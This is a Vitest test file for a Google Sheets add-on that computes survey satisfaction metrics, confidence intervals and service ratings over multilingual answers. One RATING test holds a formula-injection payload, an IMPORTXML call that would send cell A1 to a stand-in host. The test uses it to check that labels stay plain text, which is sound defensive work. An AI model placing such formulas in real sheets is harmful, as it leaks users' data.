import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type LoadedAddon, loadAddon } from './apps-script/addon'
import { SyncHttp } from './apps-script/sync-http'
import { buildForTest } from './support/build'

let addon: LoadedAddon
let http: SyncHttp

beforeAll(async () => {
  http = new SyncHttp()
  addon = loadAddon({ dist: await buildForTest(), http })
})

afterAll(async () => {
  await http?.stop()
})

/** A custom function called as Sheets calls it; the result as plain data. */
const call = (name: string, ...args: unknown[]) =>
  JSON.parse(JSON.stringify(addon.call(name, ...args)))
const column = (...values: unknown[]) => values.map((v) => [v])

const Z = 1.959963984540054
/** Wilson's interval written out, to check the formula against. */
function wilson(p: number, n: number): [number, number] {
  const centre = p + (Z * Z) / (2 * n)
  const spread = Z * Math.sqrt((p * (1 - p)) / n + (Z * Z) / (4 * n * n))
  const scale = 1 + (Z * Z) / n
  return [(centre - spread) / scale, (centre + spread) / scale]
}

describe('SATISFACTION, TOP2BOX, MEAN_SCORE, SCORE10, RESPONDENTS', () => {
  const scores = column(5, 4, 5, 3, '', 'Жауап беруге қиналамын', 2)

  it('count a 1-D column, skipping blanks and «hard to say»', () => {
    // Valid: 5, 4, 5, 3, 2 — five respondents.
    expect(call('SATISFACTION', scores)).toBeCloseTo(2 / 5, 15)
    expect(call('SATISFACTION', scores, 'top2')).toBeCloseTo(3 / 5, 15)
    expect(call('TOP2BOX', scores)).toBeCloseTo(3 / 5, 15)
    expect(call('MEAN_SCORE', scores)).toBeCloseTo(19 / 5, 15)
    expect(call('SCORE10', scores)).toBeCloseTo(38 / 5, 15)
    expect(call('RESPONDENTS', scores)).toBe(5)
  })

  it('read a 2-D range row by row, and the scale’s words and «5 балл»', () => {
    const grid = [
      [5, 'затрудняюсь ответить'],
      ['5 балл', 'жақсы'],
      ['', 'hard to say'],
      [1, 'Отлично'],
    ]
    // Valid: 5, 5, 4, 1, 5.
    expect(call('RESPONDENTS', grid)).toBe(5)
    expect(call('SATISFACTION', grid)).toBeCloseTo(3 / 5, 15)
    expect(call('MEAN_SCORE', grid)).toBeCloseTo(20 / 5, 15)
  })

  it('take a single cell as a range of one', () => {
    expect(call('SATISFACTION', 5)).toBe(1)
    expect(call('RESPONDENTS', '')).toBe(0)
  })

  it('name a bad cell’s value and position', () => {
    expect(() => call('SATISFACTION', column(5, 4, 6))).toThrow(
      '"6" at row 3, column 1 of the range: outside the scale 1..5',
    )
    expect(() =>
      call('MEAN_SCORE', [
        [5, 4],
        [3, 'x'],
      ]),
    ).toThrow('"x" at row 2, column 2 of the range: not a score 1..5')
    expect(() => call('TOP2BOX', column(4.5))).toThrow(
      '"4.5" at row 1, column 1 of the range: not a whole score 1..5',
    )
    expect(() => call('RESPONDENTS', column(true))).toThrow(
      '"true" at row 1, column 1 of the range: TRUE/FALSE, not a score 1..5',
    )
  })

  it('refuse a range without scores and an unknown definition', () => {
    expect(() => call('SATISFACTION', column('', 'не знаю'))).toThrow('no scores 1..5 in the range')
    expect(() => call('SATISFACTION', column(5), 'top3')).toThrow(
      'definition must be "top" or "top2", not "top3"',
    )
  })

  it('weigh each respondent; a blank weight leaves one out, a bad weight is named', () => {
    const scores3 = column(5, 4, 5, 2)
    const weights = column(2, 1, 1, '')
    // Counted: 5×2, 4×1, 5×1 → Σw = 4.
    expect(call('RESPONDENTS', scores3, weights)).toBe(4)
    expect(call('SATISFACTION', scores3, 'top', weights)).toBeCloseTo(3 / 4, 15)
    expect(call('MEAN_SCORE', scores3, weights)).toBeCloseTo(19 / 4, 15)
    expect(call('SCORE10', scores3, weights)).toBeCloseTo(38 / 4, 15)
    expect(call('TOP2BOX', scores3, weights)).toBe(1)
    expect(() => call('RESPONDENTS', scores3, column(1, 'abc', 1, 1))).toThrow(
      '"abc" at row 2, column 1 of weights: weight is not a number',
    )
    expect(() => call('RESPONDENTS', scores3, column(1, 1, -2, 1))).toThrow(
      '"-2" at row 3, column 1 of weights: weight must be positive',
    )
    expect(() => call('RESPONDENTS', scores3, column(1, 1))).toThrow(
      'weights must be the same size as the range (4×1), not 2×1',
    )
  })
})

describe('DISTRIBUTION and SATISFACTION_CI', () => {
  it('DISTRIBUTION spills the shares of 1..5 across one row', () => {
    expect(call('DISTRIBUTION', column(1, 2, 2, '', 5))).toEqual([[0.25, 0.5, 0, 0, 0.25]])
    expect(
      call(
        'DISTRIBUTION',
        [
          [1, 2],
          [2, 5],
        ],
        [
          [1, 1],
          [1, 3],
        ],
      ),
    ).toEqual([[1 / 6, 2 / 6, 0, 0, 3 / 6]])
  })

  it('SATISFACTION_CI spills Wilson’s 95% interval, on the effective base when weighted', () => {
    const [[low, high]] = call('SATISFACTION_CI', column(5, 5, 4, 3))
    const [l, h] = wilson(0.5, 4)
    expect(low).toBeCloseTo(l, 12)
    expect(high).toBeCloseTo(h, 12)
    const [[top2Low]] = call('SATISFACTION_CI', column(5, 5, 4, 3), 'top2')
    expect(top2Low).toBeCloseTo(wilson(0.75, 4)[0], 12)
    // Weights 2,1,1,1: p = 3/5, effective base (Σw)²/Σw² = 25/7.
    const [[wLow, wHigh]] = call('SATISFACTION_CI', column(5, 5, 4, 3), '', column(2, 1, 1, 1))
    const [el, eh] = wilson(3 / 5, 25 / 7)
    expect(wLow).toBeCloseTo(el, 12)
    expect(wHigh).toBeCloseTo(eh, 12)
  })
})

describe('SOCIAL_CONCERN', () => {
  const overall = column(1, 2, 5, 4)
  const trust = column(1, 5, 5, '')
  const complaints = column('Иә', 'Жоқ', 'Жоқ', 'Жоқ')
  const payments = column('Нет', 'нет', 0, 'No')
  const connections = column('Иә', 'Да', '', 'Жоқ')

  it('is the mean of dissatisfied, distrust, complaints, payments and connections', () => {
    const expected = (2 / 4 + 1 / 3 + 1 / 4 + 0 + 2 / 3) / 5
    expect(call('SOCIAL_CONCERN', overall, trust, complaints, payments, connections)).toBeCloseTo(
      expected,
      15,
    )
  })

  it('names a bad answer and a part nobody answered', () => {
    expect(() =>
      call('SOCIAL_CONCERN', overall, trust, complaints, column('Жоқ', 'maybe'), connections),
    ).toThrow('"maybe" at row 2, column 1 of payments: not yes/no')
    expect(() =>
      call('SOCIAL_CONCERN', overall, trust, complaints, payments, column('', '')),
    ).toThrow('no answers for: connections')
  })
})

describe('KEY_DRIVERS', () => {
  const overall = [1, 2, 3, 4, 5, 3]
  const aspects = [
    ['Сроки', 'Вежливость', 'Доверие'],
    ...overall.map((o, i) => [o, 6 - o, i === 5 ? '' : 4]),
  ]

  it('spills aspect, r and n under a header, strongest first, with or without the overall header', () => {
    const expected = [
      ['Аспект', 'Корреляция (r)', 'Респонденттер саны'],
      ['Сроки', 1, 6],
      ['Вежливость', -1, 6],
      ['Доверие', '', 5],
    ]
    const table = call('KEY_DRIVERS', aspects, column(...overall))
    expect(table).toEqual(
      expected.map((row) => row.map((v) => (typeof v === 'number' ? expect.closeTo(v, 12) : v))),
    )
    expect(call('KEY_DRIVERS', aspects, column('Жалпы баға', ...overall))).toEqual(table)
  })

  it('names a bad aspect cell by its place in the range, header row counted', () => {
    const bad = aspects.map((row) => [...row])
    bad[3][1] = 9
    expect(() => call('KEY_DRIVERS', bad, column(...overall))).toThrow(
      '"9" at row 4, column 2 of aspects_with_header: outside the scale 1..5',
    )
    expect(() => call('KEY_DRIVERS', aspects, column(1, 2))).toThrow(
      'overall must have one cell per response (6), not 2',
    )
  })
})

describe('RATING', () => {
  const services = column('A', 'A', 'A', 'B', 'B', 'B', 'B', 'C', '')
  const scores = column(5, 5, 4, 5, 4, 4, 'Затрудняюсь ответить', 5, 5)

  it('ranks services by satisfaction, small bases after without a rank', () => {
    const table = call('RATING', services, scores, 2)
    expect(table[0]).toEqual([
      'Орны',
      'Қызмет',
      'Респонденттер саны',
      'Қанағаттанушылық',
      '«4» және «5» үлесі',
      'Орташа балл',
      '10 балдық шкала',
      '95% СА төменгі шегі',
      '95% СА жоғарғы шегі',
    ])
    const [a, b, c] = table.slice(1)
    expect(table).toHaveLength(4)
    expect(a.slice(0, 3)).toEqual([1, 'A', 3])
    expect(a[3]).toBeCloseTo(2 / 3, 15)
    expect(a[4]).toBe(1)
    expect(a[5]).toBeCloseTo(14 / 3, 15)
    expect(a[6]).toBeCloseTo(28 / 3, 15)
    expect(a[7]).toBeCloseTo(wilson(2 / 3, 3)[0], 12)
    expect(b.slice(0, 3)).toEqual([2, 'B', 3])
    expect(b[3]).toBeCloseTo(1 / 3, 15)
    expect(c.slice(0, 4)).toEqual(['', 'C', 1, 1])
  })

  it('uses a minimum base of 30 by default, and checks its arguments', () => {
    expect(
      call('RATING', services, scores)
        .slice(1)
        .map((row: unknown[]) => row[0]),
    ).toEqual(['', '', ''])
    expect(() => call('RATING', services, scores, 'x')).toThrow(
      'min_base must be a whole number 1 or more, not "x"',
    )
    expect(() => call('RATING', column('A'), column(5, 4))).toThrow(
      'scores must have as many cells as services (1), not 2',
    )
    expect(() => call('RATING', column('A'), column(7))).toThrow(
      '"7" at row 1, column 1 of scores: outside the scale 1..5',
    )
  })

  it('labels its header in the locale of the saved settings', () => {
    addon.properties.document.setProperty('sapa.settings', JSON.stringify({ locale: 'en' }))
    try {
      expect(call('RATING', services, scores, 2)[0].slice(0, 4)).toEqual([
        'Rank',
        'Service',
        'Respondents',
        'Satisfaction',
      ])
    } finally {
      addon.properties.document.values.clear()
    }
  })

  it('takes the locale as its last argument, so the header follows a change of language', () => {
    expect(call('RATING', services, scores, 2, 'ru')[0].slice(0, 2)).toEqual(['Место', 'Услуга'])
    expect(call('RATING', services, scores, 2, 'EN')[0].slice(0, 2)).toEqual(['Rank', 'Service'])
    expect(call('RATING', services, scores, '', 'kk')[0][0]).toBe('Орны')
    expect(() => call('RATING', services, scores, 2, 'de')).toThrow(
      'locale must be "kk", "ru" or "en", not "de"',
    )
  })

  it('spills a label that starts like a formula as that text: spilled values are values', () => {
    const evil = '=IMPORTXML("https://x.example/?"&A1, "//a")'
    const table = call('RATING', column(evil, evil, '+7 701', '@x'), column(5, 4, 5, 3), 1)
    expect(
      table
        .slice(1)
        .map((row: unknown[]) => row[1])
        .sort(),
    ).toEqual(['+7 701', '@x', evil].sort())
  })
})

describe('KEY_DRIVERS locale', () => {
  it('takes the locale as its last argument', () => {
    const aspects = [['Сроки'], [1], [2], [3]]
    expect(call('KEY_DRIVERS', aspects, column(1, 2, 3), 'en')[0]).toEqual([
      'Aspect',
      'Correlation (r)',
      'Respondents',
    ])
  })
})
